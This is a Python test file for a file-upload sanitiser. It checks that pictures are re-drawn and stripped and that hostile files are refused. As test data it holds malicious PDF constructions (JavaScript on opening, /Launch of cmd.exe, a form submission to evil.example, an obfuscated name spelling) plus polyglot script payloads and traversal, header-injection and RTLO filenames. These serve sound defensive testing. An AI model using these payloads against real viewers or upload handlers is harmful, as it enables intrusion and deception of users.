# SPDX-License-Identifier: AGPL-3.0-or-later
"""Files from strangers: good ones come through, hidden things are left behind, hostile ones are refused."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable
from typing import Any

import pytest
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from purring.core.errors import Refused
from purring.kit import uploads
from purring.kit.uploads import checked


def picture(kind: str = "JPEG", size: tuple[int, int] = (40, 30), **how: Any) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "teal").save(out, kind, **how)
    return out.getvalue()


def pdf(change: Callable[[PdfWriter], object] = lambda writer: None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 100)
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def action(**keys: str) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{key}"): TextStringObject(value) for key, value in keys.items() if key != "S"}
                            | {NameObject("/S"): NameObject(keys["S"])})  # fmt: skip


def on_opening(made: DictionaryObject) -> Callable[[PdfWriter], object]:
    return lambda writer: writer.root_object.update({NameObject("/OpenAction"): made})


def on_a_link(made: DictionaryObject) -> Callable[[PdfWriter], object]:
    def add(writer: PdfWriter) -> None:
        note = DictionaryObject(
            {NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): writer._add_object(made)}
        )
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(note)])

    return add


def named(what: str) -> Callable[[PdfWriter], object]:
    """A tree of names in the catalogue, as documents keep scripts that run when they open."""
    names = DictionaryObject({NameObject(f"/{what}"): DictionaryObject()})
    return lambda writer: writer.root_object.update({NameObject("/Names"): names})


@pytest.mark.parametrize(("kind", "extension"), [("JPEG", "jpg"), ("PNG", "png"), ("WEBP", "jpg")])
def test_pictures_are_drawn_anew(kind: str, extension: str) -> None:
    kept = checked(picture(kind), "Beleg Mai.HEIC")
    assert kept.filename == f"Beleg Mai.{extension}"
    drawn = Image.open(io.BytesIO(kept.content))
    assert f"image/{str(drawn.format).lower()}" == kept.content_type
    assert drawn.size == (40, 30)


def test_what_is_hidden_in_a_picture_stays_behind() -> None:
    exif = Image.Exif()
    exif[0x010E] = "where I live"
    kept = checked(picture(exif=exif) + b"<script>alert(1)</script>PK\x03\x04", "a.jpg")
    assert b"where I live" not in kept.content
    assert b"script" not in kept.content
    assert b"PK\x03\x04" not in kept.content


def test_a_large_photo_becomes_readable_not_huge() -> None:
    kept = checked(picture(size=(5000, 2500)), "photo.jpg")
    assert Image.open(io.BytesIO(kept.content)).size == (4000, 2000)


def test_a_plain_pdf_stays_as_it_is() -> None:
    content = pdf(on_a_link(action(S="/URI", URI="https://bank.example")))
    assert checked(content, "proof.pdf") == uploads.Upload("proof.pdf", "application/pdf", content)


HOSTILE: dict[str, bytes] = {
    "nothing": b"",
    "a page": b"<html><script>alert(1)</script></html>",
    "a drawing with script": b"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>",
    "a program": b"MZ" + bytes(500),
    "an archive": b"PK\x03\x04" + bytes(500),
    "a page that says it is a picture": b"\xff\xd8\xff<script>alert(1)</script>",
    "half a picture": picture()[:300],
    "no PDF after all": b"%PDF-1.7\n<script>alert(1)</script>",
    "a PDF behind something else": b"GIF89a" + pdf(),
    "script when opened": pdf(named("JavaScript")),
    "script on opening": pdf(on_opening(action(S="/JavaScript", JS="app.alert(1)"))),
    "starts a program": pdf(on_opening(action(S="/Launch", F="cmd.exe"))),
    "starts one from a link": pdf(on_a_link(action(S="/Launch", F="cmd.exe"))),
    "sends a form": pdf(on_a_link(action(S="/SubmitForm", F="https://evil.example"))),
    "carries a file": pdf(lambda writer: writer.add_attachment("a.exe", b"MZ")),
    "locked": pdf(lambda writer: writer.encrypt("secret")),
    "script under another spelling": pdf(on_opening(action(S="/JavaScript", JS="1"))).replace(
        b"/JavaScript", b"/J#61vaScrip#74"
    ),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_files_are_refused(name: str) -> None:
    with pytest.raises(Refused) as refusal:
        checked(HOSTILE[name], "proof.pdf")
    assert refusal.value.code == "bad_file"


def test_script_in_a_packed_object_is_found() -> None:
    inner = b"1 0 << /S /JavaScript /JS (app.alert(1)) >>"
    packed = zlib.compress(inner)
    body = b"%PDF-1.5\n"
    places = []
    for number, part in [
        (2, b"<< /Type /Catalog /Pages 3 0 R /OpenAction 1 0 R >>"),
        (3, b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>"),
        (4, b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 9 9] >>"),
        (5, b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%b\nendstream" % (len(packed), packed)),
    ]:  # fmt: skip
        places.append(len(body))
        body += b"%d 0 obj\n%b\nendobj\n" % (number, part)
    start = len(body)
    rows = [b"\0\0\0\0", b"\2\0\5\0"] + [b"\1" + place.to_bytes(2, "big") + b"\0" for place in [*places, start]]
    table = b"".join(rows)
    head = b"<< /Type /XRef /Size 7 /W [1 2 1] /Root 2 0 R /Length %d >>" % len(table)
    body += b"6 0 obj\n%b\nstream\n%b\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % (head, table, start)
    assert len(PdfReader(io.BytesIO(body)).pages) == 1
    with pytest.raises(Refused):
        checked(body, "proof.pdf")


def test_too_large(monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(Refused):
        checked(bytes(uploads.MOST_BYTES + 1), "a.pdf")
    monkeypatch.setattr(uploads, "MOST_PIXELS", 100)
    with pytest.raises(Refused, match="too large"):
        checked(picture(), "a.jpg")


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("../../etc/passwd.pdf", "passwd.jpg"),
        ("C:\\Users\\a\\proof.exe", "proof.jpg"),
        ('a"\r\nX-Evil: 1.pdf', "a___X-Evil_ 1.jpg"),
        ("photo\u202egpj.exe", "photo_gpj.jpg"),
        ("Überweisung März.pdf", "Überweisung März.jpg"),
        ("", "file.jpg"),
        (".pdf", "pdf.jpg"),
        ("x" * 300 + ".pdf", "x" * 80 + ".jpg"),
    ],
)
def test_names(name: str, kept: str) -> None:
    assert checked(picture(), name).filename == kept


def test_numbers_are_no_trouble() -> None:
    """A dictionary within a list within a dictionary is looked at as well."""
    hidden = ArrayObject([NumberObject(1), DictionaryObject({NameObject("/Next"): action(S="/Launch", F="x")})])
    content = pdf(lambda writer: writer.root_object.update({NameObject("/Odd"): hidden}))
    with pytest.raises(Refused):
        checked(content, "a.pdf")
